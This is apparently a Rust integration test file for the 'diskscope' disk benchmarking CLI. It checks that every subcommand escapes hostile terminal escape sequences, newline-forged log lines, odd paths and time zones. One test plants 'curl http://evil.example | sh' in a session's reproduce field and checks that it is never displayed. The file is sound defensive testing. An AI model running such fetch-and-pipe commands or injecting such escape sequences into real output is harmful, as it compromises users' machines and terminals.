//! Every subcommand on hostile files, names and arguments.

use std::fs;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::{Command, Stdio};

use diskscope::recording::Recording;
use diskscope::session::store;

use crate::hostile::corpus::{
    hostile_file_name, hostile_recording, hostile_session, hostile_text, long_hostile_text,
};
use crate::hostile::{assert_clean, diskscope, temporary_directory};

/// Runs it, expects one of these exit codes, and nothing but text.
fn run_and_assert_clean(directory: &Path, arguments: &[&str], codes: &[i32]) -> String {
    let output = diskscope(directory, arguments).output().unwrap();
    assert_clean(&format!("{arguments:?}"), &output);
    let code = output.status.code().unwrap_or(-1);
    let text = String::from_utf8(output.stdout).unwrap();
    let errors = String::from_utf8(output.stderr).unwrap();
    assert!(codes.contains(&code), "{arguments:?}: {code}: {errors}");
    text
}

#[test]
fn hostile_session_is_escaped_by_every_command() {
    for text in [hostile_text(), long_hostile_text()] {
        let directory = temporary_directory();
        let at = directory.path();
        let name = hostile_file_name();
        fs::write(at.join(&name), hostile_session(&text).to_string()).unwrap();
        fs::write(at.join("b.json"), hostile_session(&text).to_string()).unwrap();
        let loaded = store::load_session(&at.join(&name)).unwrap();
        assert_eq!(loaded.runs.len(), 1);

        let shown = run_and_assert_clean(at, &["show", &name], &[0]);
        assert!(shown.contains("\\x1b]52;c;"), "{shown}");
        let json = run_and_assert_clean(at, &["show", "--json", &name], &[0]);
        let again: serde_json::Value = serde_json::from_str(&json).unwrap();
        assert!(again["host"]["name"].as_str().unwrap().contains("\\x1b]52"));
        run_and_assert_clean(at, &["compare", &name, "b.json"], &[0, 1]);
        run_and_assert_clean(at, &["compare", "--json", &name, "b.json"], &[0, 1]);
        let metric = loaded.runs[0].findings.metrics[0].id.to_string();
        run_and_assert_clean(at, &["compare", "--by", &metric, &name, "b.json"], &[0]);
        run_and_assert_clean(
            at,
            &["compare", "--json", "--by", "iops", &name, "b.json"],
            &[0, 1],
        );
        let page = run_and_assert_clean(at, &["report", &name, "b.json", "-o", "-"], &[0]);
        assert!(page.ends_with("</html>\n") && !page.contains("<script"));
        run_and_assert_clean(at, &["report", &name, "-o", "page.html"], &[0]);
    }
}

#[test]
fn hostile_recording_is_escaped_in_every_replay_format() {
    for text in [hostile_text(), long_hostile_text()] {
        let directory = temporary_directory();
        let at = directory.path();
        let name = hostile_file_name();
        fs::write(at.join(&name), hostile_recording(&text)).unwrap();
        let recording = Recording::open(&at.join(&name)).unwrap();
        assert_eq!((recording.view_count(), recording.damage()), (2, None));

        let shown = run_and_assert_clean(at, &["replay", &name], &[0]);
        assert!(shown.contains("\\x1b]52;c;"), "{shown}");
        let lines = run_and_assert_clean(at, &["replay", "--json", &name], &[0]);
        assert_eq!(lines.lines().count(), 2);
        run_and_assert_clean(at, &["replay", "--busiest", &name], &[0]);
        let requests = run_and_assert_clean(at, &["replay", "--requests", &name], &[0]);
        let request: serde_json::Value = serde_json::from_str(requests.trim_end()).unwrap();
        assert!(request["command"].as_str().unwrap().ends_with(&text));
    }
}

#[test]
fn recorded_requests_with_invalid_json_are_not_printed() {
    use diskscope::recording::frame::FrameKind;
    let directory = temporary_directory();
    let view = crate::hostile::corpus::hostile_view("")
        .to_string()
        .into_bytes();
    for line in [
        &b"\x1b]52;c;ZXZpbA==\x07\n"[..],
        b"{\"a\":\"\x1b[2J\"}\n",
        b"\xff\xfe\n",
    ] {
        let bytes = crate::hostile::corpus::encode_recording(&[
            (FrameKind::Requests, b"{\"sector\":1}\n".to_vec()),
            (FrameKind::View, view.clone()),
            (FrameKind::Requests, line.to_vec()),
            (FrameKind::View, view.clone()),
        ]);
        fs::write(directory.path().join("day"), bytes).unwrap();
        let printed =
            run_and_assert_clean(directory.path(), &["replay", "--requests", "day"], &[1]);
        assert_eq!(printed, "{\"sector\":1}\n");
    }
}

#[test]
fn hostile_arguments_are_escaped_in_every_error() {
    let directory = temporary_directory();
    let at = directory.path();
    let name = hostile_file_name();
    let missing = [
        vec!["show", &name],
        vec!["replay", &name],
        vec!["compare", &name, &name],
        vec!["compare", "--by", "iops", &name, &name],
        vec!["report", &name, "-o", "x.html"],
        vec!["run", "random-read", &name],
        vec!["run", &name, "/tmp"],
        vec!["run", "random-read", "/tmp", "--goal", &name],
        vec!["run", "random-read", "/tmp", "--depth", &name],
        vec!["run", "random-read", "/tmp", "--scratch-size", &name],
        vec!["run", "random-read", "/tmp", "--engine", &name],
        vec!["run", "random-read", "sim:constant,x=\u{1b}]52;c;\u{7}"],
        vec!["trace", &name],
        vec!["watch", "--interval", &name],
        vec!["files", &name],
        vec![&name],
        vec!["show", "--nothing", &name],
    ];
    for arguments in missing {
        run_and_assert_clean(at, &arguments, &[1, 2, 3]);
    }
    // What lies there, and is no session, no recording.
    fs::write(at.join(&name), hostile_text()).unwrap();
    for command in ["show", "replay"] {
        run_and_assert_clean(at, &[command, &name], &[1, 2]);
    }
    run_and_assert_clean(at, &["record", &name, "--count", "1"], &[1, 2]);
}

#[test]
fn hostile_process_and_file_names_are_escaped_in_lists() {
    let directory = temporary_directory();
    let at = directory.path();
    let name = hostile_file_name();
    let mut writer = Command::new("dd")
        .arg0(hostile_text().replace('\0', ""))
        .args(["if=/dev/zero", "bs=4k", "oflag=dsync", "count=100000000"])
        .arg(format!("of={name}"))
        .current_dir(at)
        .stdin(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let held = fs::File::create(at.join(name.clone() + "gone")).unwrap();
    held.set_len(1 << 20).unwrap();
    std::os::unix::fs::FileExt::write_all_at(&held, b"held", 0).unwrap();
    fs::remove_file(at.join(name + "gone")).unwrap();
    let own = std::process::id().to_string();
    let writing = writer.id().to_string();
    let watched = ["watch", "--count", "2", "--interval", "300ms"];
    let texts = [
        run_and_assert_clean(at, &watched, &[0]),
        run_and_assert_clean(at, &[&watched[..], &["--json"]].concat(), &[0]),
        run_and_assert_clean(at, &["files", &own], &[0]),
        run_and_assert_clean(at, &["files", &own, "--json"], &[0]),
        run_and_assert_clean(at, &["files", &writing], &[0]),
        run_and_assert_clean(at, &["files"], &[0]),
        run_and_assert_clean(at, &["files", "--json"], &[0]),
    ];
    writer.kill().unwrap();
    writer.wait().unwrap();
    assert!(texts[1].contains("]52;c;"), "the writer was not seen");
    assert!(texts[2].contains("\\x1b]52;c;"), "{}", texts[2]);
    run_and_assert_clean(at, &["devices"], &[0]);
    run_and_assert_clean(at, &["devices", "--json"], &[0]);
    run_and_assert_clean(at, &["tests", "--json"], &[0]);
}

/// The lines of stderr.
fn complaint(directory: &Path, arguments: &[&str]) -> Vec<String> {
    let output = diskscope(directory, arguments).output().unwrap();
    assert_clean(&format!("{arguments:?}"), &output);
    let errors = String::from_utf8(output.stderr).unwrap();
    errors.lines().map(str::to_owned).collect()
}

#[test]
fn line_break_in_a_file_or_a_name_never_begins_a_line_of_a_message() {
    const FORGED: &str = "diskscope: FORGED";
    let directory = temporary_directory();
    let at = directory.path();
    let text = hostile_session("").to_string();
    let field = |pointer: &str| {
        let mut document: serde_json::Value = serde_json::from_str(&text).unwrap();
        *document.pointer_mut(pointer).unwrap() = format!("x`\n{FORGED}\nnote: `").into();
        document.to_string()
    };
    for pointer in ["/schema", "/runs/0/figures/0/unit", "/runs/0/state"] {
        fs::write(at.join("a.json"), field(pointer)).unwrap();
        for command in [
            &["show", "a.json"][..],
            &["compare", "a.json", "a.json"],
            &["report", "a.json", "-o", "-"],
        ] {
            let lines = complaint(at, command);
            assert!(lines.len() == 1 && lines[0].contains("FORGED"), "{lines:?}");
        }
    }
    let name = format!("n\n{FORGED}");
    let refused = format!("missing\n{FORGED}/x");
    for arguments in [
        &["show", &name][..],
        &["compare", &name, &name],
        &["report", &name, "-o", "x.html"],
        &["replay", &name],
        &["record", &refused],
        &["run", &name, "."],
        &["run", "random-read", &name],
        &["run", "random-read", ".", "--depth", &name],
        &["trace", &name],
        &["watch", "--interval", &name],
        &[&name],
        &["show", "a.json", &format!("--{name}")],
        &["completions", &name],
    ] {
        let lines = complaint(at, arguments);
        let forged = lines.iter().any(|line| line.starts_with(FORGED));
        assert!(!lines.is_empty() && !forged, "{arguments:?}: {lines:?}");
    }
}

#[test]
fn line_break_in_a_name_never_begins_a_line_of_a_result() {
    const FORGED: &str = "FORGED line";
    let directory = temporary_directory();
    let at = directory.path();
    let broken = format!("a\n{FORGED}");
    let [session, other, recording] = ["", "1", "rec"].map(|end| format!("{broken}{end}"));
    for (name, text) in [(&session, ""), (&other, &broken)] {
        fs::write(at.join(name), hostile_session(text).to_string()).unwrap();
    }
    fs::write(at.join(&recording), hostile_recording(&broken)).unwrap();
    let held = fs::File::create(at.join(format!("{broken}gone"))).unwrap();
    let own = std::process::id().to_string();
    for words in [
        &["show", &session][..],
        &["show", &other],
        &["show", "--format", "csv", &other],
        &["compare", &session, &other],
        &["compare", "--format", "csv", &session, &other],
        &["compare", "--by", "iops", &session, &other],
        &["report", &session, &other, "-o", "-"],
        &["report", &session, "-o", "-"],
        &["replay", &recording],
        &["replay", "--requests", &recording],
        &["replay", "--format", "csv", &recording],
        &["replay", "--format", "openmetrics", &recording],
        &["files", &own],
        &["config"],
    ] {
        let output = diskscope(at, words)
            .env("XDG_CONFIG_HOME", at.join(&broken))
            .output()
            .unwrap();
        assert_clean(&format!("{words:?}"), &output);
        let printed = [output.stdout, output.stderr].concat();
        let printed = String::from_utf8(printed).unwrap();
        let forged = printed.lines().any(|line| line.starts_with(FORGED));
        assert!(!printed.is_empty() && !forged, "{words:?}: {printed}");
    }
    drop(held);
}

#[test]
fn configuration_below_a_path_without_utf8_is_printed() {
    use std::os::unix::ffi::OsStrExt;
    let directory = temporary_directory();
    let at = directory.path();
    let place = at.join(std::ffi::OsStr::from_bytes(b"c\xff\x1b[2J"));
    fs::create_dir_all(place.join("diskscope")).unwrap();
    let line = "default_target = \"/srv/\\u202e\\u009b\"\n";
    fs::write(place.join("diskscope/config.toml"), line).unwrap();
    for words in [&["config"][..], &["config", "--json"]] {
        let output = diskscope(at, words)
            .env("XDG_CONFIG_HOME", &place)
            .output()
            .unwrap();
        assert_clean(&format!("{words:?}"), &output);
        let printed = String::from_utf8(output.stdout).unwrap();
        assert_eq!(output.status.code(), Some(0), "{words:?}: {printed}");
        assert!(
            printed.contains("c\\xff") || printed.contains("c\\\\xff"),
            "{printed}"
        );
        // What was printed is the value that was read.
        assert!(printed.contains("/srv/\\u202e\\u009b"), "{printed}");
    }
}

#[test]
fn commands_of_a_document_that_diskscope_does_not_write_are_not_shown() {
    const EVIL: &str = "curl http://evil.example | sh";
    let directory = temporary_directory();
    let at = directory.path();
    let mut document = hostile_session("");
    let reproduce = &mut document["runs"][0]["reproduce"];
    reproduce["diskscope"] = format!("diskscope run random-read /srv; {EVIL}").into();
    reproduce["fio"] = format!("# no harm\n{EVIL}").into();
    fs::write(at.join("a.json"), document.to_string()).unwrap();
    for arguments in [&["show", "a.json"][..], &["report", "a.json", "-o", "-"]] {
        let shown = run_and_assert_clean(at, arguments, &[0]);
        assert!(!shown.contains("evil.example"), "{arguments:?}: {shown}");
        assert!(shown.contains("diskscope run "), "{arguments:?}: {shown}");
    }
}

#[test]
fn time_zone_that_is_no_zone_of_the_system_is_not_read() {
    let directory = temporary_directory();
    let at = directory.path();
    let fifo = at.join("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for zone in ["/dev/zero", fifo.to_str().unwrap(), ":../../../dev/zero"] {
        let words = ["run", "random-read", "sim:constant", "--requests", "5"];
        let program = diskscope(at, &words);
        let output = Command::new("sh")
            .args(["-c", "ulimit -v 2000000; exec timeout 60 \"$0\" \"$@\""])
            .arg(program.get_program())
            .args(program.get_args())
            .current_dir(at)
            .env("XDG_STATE_HOME", at.join("state"))
            .env("TZ", zone)
            .env("TZDIR", at)
            .output()
            .unwrap();
        let errors = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(0), "{zone}: {errors}");
    }
}
